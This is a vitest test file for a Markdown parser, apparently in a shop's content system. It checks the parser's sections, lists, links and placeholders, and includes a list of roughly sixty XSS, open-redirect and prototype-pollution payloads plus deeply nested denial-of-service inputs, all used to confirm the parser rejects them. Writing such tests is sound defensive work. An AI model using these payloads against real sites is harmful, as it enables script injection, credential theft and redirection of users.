import { describe, expect, it, test } from 'vitest';
import { sectionSchema } from '#domain/richText.schema.ts';
import { manyListMarks, repeated } from '#server/testing/hostileMarkdown.ts';
import { parseAnswer, parseMarkdown } from './parseMarkdown.ts';

const blocksIn = (markdown: string) => parseMarkdown(markdown).sections.flatMap(({ blocks }) => blocks);
const paragraph = (...content: object[]) => ({ kind: 'paragraph', content });

describe('Markdown', () => {
  it('begins a section with each heading, and one without title after a rule', () => {
    expect(parseMarkdown('Before\n\n## One\n\nText\n\n# Two\n\n---\n\nAfter').sections).toEqual([
      { title: '', blocks: [paragraph({ text: 'Before' })] },
      { title: 'One', blocks: [paragraph({ text: 'Text' })] },
      { title: 'Two', blocks: [] },
      { title: '', blocks: [paragraph({ text: 'After' })] },
    ]);
  });

  it('marks strong and emphasised text, and links', () => {
    expect(blocksIn('Pay **in *cash*** at [our shop](/contact "Go").')).toEqual([
      paragraph(
        { text: 'Pay ' },
        { text: 'in ', strong: true },
        { text: 'cash', strong: true, emphasis: true },
        { text: ' at ' },
        { to: '/contact', spans: [{ text: 'our shop' }] },
        { text: '.' },
      ),
    ]);
  });

  it('keeps links in lists, notes and small headings, and refuses unsafe ones there', () => {
    const content = [
      { text: 'see ' },
      { to: '/returns', spans: [{ text: 'returns', strong: true }] },
      { text: '.' },
    ];
    const marked = 'see **[returns](/returns)**.';
    expect(blocksIn(`- ${marked}\n\n> ${marked}\n\n### ${marked}`)).toEqual([
      { kind: 'list', isOrdered: false, items: [content] },
      { kind: 'note', content },
      { kind: 'heading', level: 3, content },
    ]);
    for (const before of ['- ', '> ', '### ', '> - '])
      expect(parseMarkdown(`${before}**[x](javascript:alert(1))**`).problem).toMatch(/must begin with/);
  });

  it('joins lines, and breaks them after two spaces', () => {
    expect(blocksIn('one\ntwo  \nthree')).toEqual([
      paragraph({ text: 'one two' }, { text: '\n' }, { text: 'three' }),
    ]);
  });

  it('reads lists, with the items of inner lists after their item', () => {
    expect(blocksIn('1. one\n   - inner\n2. two')).toEqual([
      {
        kind: 'list',
        isOrdered: true,
        items: [[{ text: 'one' }], [{ text: 'inner' }], [{ text: 'two' }]],
      },
    ]);
  });

  it('finds lists and headings behind any number of spaces, which would be code', () => {
    const list = (...texts: string[]) => ({
      kind: 'list',
      isOrdered: false,
      items: texts.map((text) => [{ text }]),
    });
    expect(blocksIn('    - one\n    - two')).toEqual([list('one', 'two')]);
    expect(blocksIn('- one\n        - inner\n- two')).toEqual([list('one', 'inner', 'two')]);
    expect(blocksIn('Before\n\t- one\n\t- two')).toEqual([paragraph({ text: 'Before' }), list('one', 'two')]);
    expect(parseMarkdown('    ## Title\n        text').sections).toEqual([
      { title: 'Title', blocks: [paragraph({ text: 'text' })] },
    ]);
  });

  it('reads notes, small headings and features', () => {
    expect(blocksIn('> small\n\n#### Four\n\n### Three\n\n#### Four\n\n{fee_table}')).toEqual([
      { kind: 'note', content: [{ text: 'small' }] },
      { kind: 'heading', level: 3, content: [{ text: 'Four' }] },
      { kind: 'heading', level: 3, content: [{ text: 'Three' }] },
      { kind: 'heading', level: 4, content: [{ text: 'Four' }] },
      { kind: 'feature', name: 'fee_table' },
    ]);
  });

  it('reads Bangla and keeps placeholders for later', () => {
    expect(blocksIn('ফোন **{phone}**')).toEqual([
      paragraph({ text: 'ফোন ' }, { text: '{phone}', strong: true }),
    ]);
  });

  test.each([
    ['Call {fone}', '{fone} is not known. Please choose one of the words in the list.'],
    ['Costs {fee_table} now', '{fee_table} must stand on a line of its own in the text of a page'],
    ['## {nothing}', '{nothing} is not known. Please choose one of the words in the list.'],
    ['##\n\ntext', 'A heading must not be empty'],
  ])('refuses %j', (markdown, problem) => {
    expect(parseMarkdown(markdown).problem).toBe(problem);
  });

  it('an answer has no sections and no features', () => {
    expect(parseAnswer('## Title\n\ntext').blocks).toEqual([
      paragraph({ text: 'Title', strong: true }),
      paragraph({ text: 'text' }),
    ]);
    expect(parseAnswer('{fee_table}').problem).toBe('{fee_table} belongs in the text of a page');
  });
});

/** Attempts to run code or to lead away unseen. Each is refused, or is shown as the text that it is. */
const attempts = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](java&#10;script:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](\u00a0javascript:alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://shop.example/1)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](/&#9;/evil.example)',
  '[x](https:evil.example)',
  '[x](https:///evil.example)',
  '[x](" onmouseover="alert(1))',
  '[x](/" onmouseover="alert(1))',
  '[x](# "javascript:alert(1)")',
  '[[x](javascript:alert(1))](https://ok.example)',
  '[x [y](javascript:alert(1)) z](https://ok.example)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[y]: javascript:alert(1)\n\n[y]',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<!-- --><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<style>@import "//evil.example/x.css"</style>',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password></form>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  '- <img src=x onerror=alert(1)>',
  '> <img src=x onerror=alert(1)>',
  '**<b onclick=alert(1)>x</b>**',
  '{__proto__}',
  '{constructor}',
];

const safeAddress = /^(https?:\/\/\w|mailto:|tel:|\/$|\/[^/\\])/;

/** Every link in the tree. */
const linksIn = (value: unknown): string[] => {
  if (Array.isArray(value)) return value.flatMap(linksIn);
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, part]) => (name === 'to' ? [String(part)] : linksIn(part)));
};

describe('nothing dangerous passes', () => {
  test.each(attempts)('%j', (markdown) => {
    for (const { sections, problem } of [parseMarkdown(markdown), parseMarkdown(`text ${markdown} text`)]) {
      for (const address of linksIn(sections)) expect(address).toMatch(safeAddress);
      // The tree has only texts and known names. The schema refuses any other part.
      for (const section of sections) expect(sectionSchema.strict().parse(section)).toEqual(section);
      expect(problem !== null || sections.length > 0).toBe(true);
    }
  });

  test.each(attempts.filter((markdown) => /\]\((?:javascript|data|vbscript|\/\/|&#)/i.test(markdown)))(
    'the link of %j is refused',
    (markdown) => {
      const { problem, sections } = parseMarkdown(markdown);
      expect(problem).toMatch(/must begin with/);
      expect(linksIn(sections).every((address) => safeAddress.test(address))).toBe(true);
    },
  );

  test.each([
    'https://shop.example/a?b=c#d',
    'http://shop.example',
    'mailto:shop@example.com',
    'tel:{phone}',
    'tel:+8801712345678',
    '/returns',
    '/products?category=rings',
    '/',
  ])('a link to %s passes', (address) => {
    expect(parseMarkdown(`[x](${address})`)).toEqual({
      sections: [{ title: '', blocks: [paragraph({ to: address, spans: [{ text: 'x' }] })] }],
      problem: null,
    });
  });
});

describe('hostile nesting', () => {
  const tooDeep = 'This text is nested too deeply';

  // How long they take: "hostile Markdown" in `npm run bench`.
  test.each(['>', '- ', '[', '*', '_', '1. ', '> - ', '`', '~'])(
    '%j ten thousand times is refused',
    (sign) => {
      expect(parseMarkdown(repeated(sign))).toEqual({ sections: [], problem: tooDeep });
    },
  );

  test.each(['![', '**a ', '<', '&#', '\\', '{'])('%j ten thousand times is text', (sign) => {
    const { sections, problem } = parseMarkdown(repeated(sign));
    expect(problem).toBeNull();
    expect(sections[0]?.blocks).toHaveLength(1);
  });

  it('many long lines of list marks are refused', () => {
    expect(parseMarkdown(manyListMarks).problem).toBe(tooDeep);
  });

  it('many levels are refused', () => {
    expect(parseMarkdown(`${'> '.repeat(50)}text`).problem).toBe(tooDeep);
    expect(parseMarkdown(`${'- '.repeat(50)}text`).problem).toBe(tooDeep);
  });
});
